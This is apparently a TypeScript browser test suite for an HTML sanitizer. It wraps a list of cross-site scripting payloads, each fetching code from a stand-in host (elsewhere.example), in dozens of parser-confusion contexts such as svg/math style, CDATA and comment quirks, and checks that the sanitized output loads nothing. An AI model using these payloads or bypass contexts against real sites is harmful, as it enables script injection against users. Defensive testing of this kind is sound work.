/** The kept parts of hostile documents in a browser: shows where the browser parses them differently from the check. */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { verify } from '../../src/content/generation/verify/verify.ts';
import { launchBrowser, openPage } from '../support/browser.ts';

let page: Page;
let document = '';
let asked = 0;
beforeAll(async () => {
  ({ page } = await openPage(await launchBrowser(), 800));
  await page.route('**/*', async (route) => {
    const url = route.request().url();
    if (url.startsWith('https://elsewhere.example/')) asked += 1;
    await route.fulfill({
      contentType: url === 'https://page.example/' ? 'text/html; charset=utf-8' : 'text/plain',
      body: url === 'https://page.example/' ? document : '',
    });
  });
});
afterAll(() => page?.context().close());

const CODE = 'https://elsewhere.example/code';

/** Each makes a browser ask for `CODE` when it is read as markup. */
const HOSTILE = [
  `<script src=${CODE}></script>`,
  `<script>import("${CODE}")</script>`,
  `<img src=data:, onerror="import('${CODE}')">`,
  `<svg onload="import('${CODE}')"></svg>`,
  `<iframe src="${CODE}"></iframe>`,
  `<iframe srcdoc="<script src=${CODE}></script>"></iframe>`,
  `<object data="${CODE}"></object>`,
  `<base href="https://elsewhere.example/"><script src=code></script>`,
  `<svg><script href="${CODE}"></script></svg>`,
  `<a href="https://page.example/" ping=x onfocus="import('${CODE}')" autofocus>x</a>`,
];

/** Places where readers of HTML have disagreed. `%` is where something hostile stands. */
const PLACES = [
  '%',
  '<svg>%</svg>',
  '<math>%</math>',
  '<style>%</style>',
  '<svg><style>%</style></svg>',
  '<math><style>%</style></math>',
  '<svg><title>%</title></svg>',
  '<svg><desc><style>%</style></desc></svg>',
  '<svg><foreignObject><style>%</style></foreignObject></svg>',
  '<svg><![CDATA[%]]></svg>',
  '<svg><![CDATA[x]]>%</svg>',
  '<svg><p><style>%</style>',
  '<svg></p><style><a title="</style>%">',
  '<math></br><style><a title="</style>%">',
  '<math><mtext><table><mglyph><style><!--</style><a title="--&gt;%">',
  '<form><math><mtext></form><form><mglyph><style></math>%',
  '<math><annotation-xml encoding="text/html"><style>%</style></annotation-xml></math>',
  '<math><annotation-xml><style>%</style></annotation-xml></math>',
  '<svg><a><style><!--</a>%--></style></svg>',
  '<title>%</title>',
  '<textarea>%</textarea>',
  '<xmp>%</xmp>',
  '<noembed>%</noembed>',
  '<noframes>%</noframes>',
  '<noscript>%</noscript>',
  '<noscript><p title="</noscript>%">',
  '<template>%</template>',
  '<select>%</select>',
  '<select><option><style>%</style></select>',
  '<table>%</table>',
  '<!--%-->',
  '<!-->%-->',
  '<!--->%-->',
  '<!-- --!>%-->',
  '<!-- <!-- -->%-->',
  '<!%>',
  '<![CDATA[>%]]>',
  '<?x >%?>',
  '</ x>%',
  '</x %',
  '<p title="%">x</p>',
  "<p title='%'>x</p>",
  '<p title=%>x</p>',
  '<p =">%">x</p>',
  '<p "=>%">x</p>',
  '<p a="b"c=%>x</p>',
  '<p/%>x</p>',
  '<script>"<!--<script>"</script>%</script>',
  '<script>"<!--"</script>%',
  '<script type="text/template">%</script>',
  '<style/>%',
  '<svg/><style>%</style>',
  '<svg><style/>%</svg>',
  '<<%',
  '&lt;%',
  '<a%',
  '<frameset>%',
];

const around = (body: string) =>
  `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>x</title></head><body>x${body}</body></html>`;
/** The tested documents: many hostile ones become the same. */
const read = new Set<string>();

async function show(html: string): Promise<void> {
  document = html;
  asked = 0;
  await page.goto('https://page.example/', { waitUntil: 'load' });
  // Work that handlers began after the load.
  await page.evaluate('new Promise((done) => requestAnimationFrame(() => setTimeout(done)))');
}

it.each(PLACES)('nothing runs of what stands in %s', async (place) => {
  for (const hostile of HOSTILE) {
    const given = around(place.replace('%', () => hostile));
    const verdict = await verify(given, { kind: 'page', title: 'x', unsubscribeLink: true });
    if ('problem' in verdict || read.has(verdict.html)) continue;
    read.add(verdict.html);
    await show(verdict.html);
    expect(asked, verdict.html).toBe(0);
  }
});

it.each(HOSTILE)('%s runs where it is not verified', async (hostile) => {
  await show(around(hostile));
  await expect.poll(() => asked).toBeGreaterThan(0);
});
